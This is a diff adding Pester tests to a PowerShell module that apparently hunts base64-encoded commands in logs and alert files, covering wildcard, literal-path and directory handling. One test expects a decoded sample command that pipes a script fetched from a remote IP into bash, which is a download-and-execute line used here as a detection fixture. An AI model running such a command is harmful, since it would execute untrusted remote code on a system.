@@ -76,3 +76,53 @@ Describe 'A malformed record does not stop a runbook' {
         { Get-B64Command -Path (Join-Path $Work 'missing.log') } | Should -Throw -ErrorId 'PathNotFound*'
     }
 }
+
+Describe 'Get-B64RelatedAlert -Path and -LiteralPath' {
+    BeforeAll {
+        $script:AlertDir = Join-Path $Work 'alerts'
+        New-Item -ItemType Directory -Path $AlertDir | Out-Null
+        $sample = Join-Path (Get-Module B64Hunt).ModuleBase 'data/sample/alerts.csv'
+        $script:Bracketed = Join-Path $AlertDir 'alerts[1].csv'
+        Copy-Item -LiteralPath $sample -Destination $Bracketed
+        New-Item -ItemType Directory -Path (Join-Path $AlertDir 'sub') | Out-Null
+    }
+
+    It 'reports a path or pattern that matches nothing as PathNotFound' {
+        Get-B64RelatedAlert -Path (Join-Path $AlertDir 'nothing*.csv') -ErrorVariable err -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
+        $err.FullyQualifiedErrorId | Should -Be 'PathNotFound,B64Hunt.Commands.GetB64RelatedAlertCommand'
+        $err[0].TargetObject | Should -BeLike '*nothing`*.csv'
+        $err[0].CategoryInfo.Category | Should -Be 'ObjectNotFound'
+    }
+
+    It 'reads a bracketed name with -LiteralPath, as many alerts as -Sample' {
+        $literal = Get-B64RelatedAlert -LiteralPath $Bracketed
+        $literal.Count | Should -Be (Get-B64RelatedAlert -Sample).Count
+        $literal.Count | Should -BeGreaterThan 0
+        Get-B64RelatedAlert -LiteralPath (Join-Path $AlertDir 'alerts[2].csv') -ErrorVariable err -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
+        $err.FullyQualifiedErrorId | Should -Be 'PathNotFound,B64Hunt.Commands.GetB64RelatedAlertCommand'
+    }
+
+    It 'skips the directories a wildcard matches, reading the files' {
+        $alerts = Get-B64RelatedAlert -Path (Join-Path $AlertDir '*') -ErrorVariable err -ErrorAction SilentlyContinue
+        $err | Should -BeNullOrEmpty
+        $alerts.Count | Should -Be (Get-B64RelatedAlert -Sample).Count
+    }
+}
+
+Describe 'Get-B64Command and directories' {
+    It 'skips the directories Get-ChildItem -Recurse pipes, as Select-String does, and reads the files' {
+        $logs = Join-Path $Work 'logs'
+        New-Item -ItemType Directory -Path (Join-Path $logs 'a/b') -Force | Out-Null
+        Set-Content -LiteralPath (Join-Path $logs 'a/b/cmd.csv') -Value @('CommandLine,Computer', "`"$Payload`",web1")
+        $events = Get-ChildItem $logs -Recurse | Get-B64Command -ErrorVariable err -ErrorAction SilentlyContinue
+        $err | Should -BeNullOrEmpty
+        $events.DecodedCommand | Should -Be 'curl -s http://203.0.113.7/a.sh | bash'
+    }
+
+    It 'still reports a directory named on its own and a missing file' {
+        Get-B64Command -Path $Work -ErrorVariable err -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
+        $err.FullyQualifiedErrorId | Should -Be 'PathIsDirectory,B64Hunt.Commands.GetB64CommandCommand'
+        Get-B64Command -LiteralPath (Join-Path $Work 'none.log') -ErrorVariable err2 -ErrorAction SilentlyContinue
+        $err2.FullyQualifiedErrorId | Should -Be 'PathNotFound,B64Hunt.Commands.GetB64CommandCommand'
+    }
+}
